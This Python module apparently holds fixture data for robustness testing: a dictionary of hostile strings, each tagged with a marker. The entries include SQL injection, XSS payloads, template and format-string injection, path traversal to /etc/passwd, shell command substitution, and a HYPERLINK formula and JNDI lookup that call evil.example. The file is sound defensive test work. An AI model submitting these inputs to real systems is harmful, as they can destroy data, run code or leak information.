"""Texts that have broken programs before. Each carries `MARK`, so that it can be looked for."""

from __future__ import annotations

import re

MARK = "xYzMaRk"
MARKUP = re.compile(rf"<script>{MARK}|<img src=x onerror={MARK}|<b>")
"""What must never be given back as it came."""

NASTY = {
    "a NUL": f"{MARK}\0{MARK}",
    "control characters": f"{MARK}\x01\x07\x1b[31m\x7f\x9f",
    "line breaks": f"{MARK}\r\nX-Injected: {MARK}\r\n\r\n<b>",
    "other line breaks": f"{MARK}\u2028\u2029\x0b\x0c\x85",
    "right to left": f"{MARK}\u202e\u2066gpj.exe",
    "nothing to be seen": f"{MARK}\u200b\u200d\ufeff\u00ad",
    "half a pair": MARK + "\ud800",
    "piled-up accents": MARK + "\u0301" * 90,
    "letters from all over": f"{MARK} Ω ж 漢 🧼🏽‍🚿 ﷽ ﬁ İ ß",
    "one letter, very often": MARK + "\U0001d54f" * 3000,
    "SQL": f"{MARK}'; DROP TABLE orders; --",
    "SQL by another quote": f'{MARK}" OR 1=1 /*',
    "SQL that sleeps": f"{MARK}'||pg_sleep(9)||'",
    "a pattern": f"{MARK}%_\\%",
    "a script": f"<script>{MARK}()</script>",
    "a picture that calls": f'"><img src=x onerror={MARK}()>',
    "an address that runs": f"javascript:{MARK}()",
    "a template": f"{MARK}{{{{7*7}}}}{{% raw %}}${{7*7}}<%= 7*7 %>#{{7*7}}",
    "a format": f"{MARK}%s%n%x{{0.__class__}}{{}}",
    "another folder": f"../../../../etc/passwd%00{MARK}",
    "another folder, coded": f"..%2f..%252f..\\..\\{MARK}",
    "a formula": f'=HYPERLINK("http://evil.example/{MARK}")',
    "a lookup": f"${{jndi:ldap://evil.example/{MARK}}}",
    "a command": f"$(id) `id` ; id | {MARK}",
    "an entity": f"&lt;{MARK}&#0;&amp;",
    "a number that is none": f"NaN{MARK}",
}
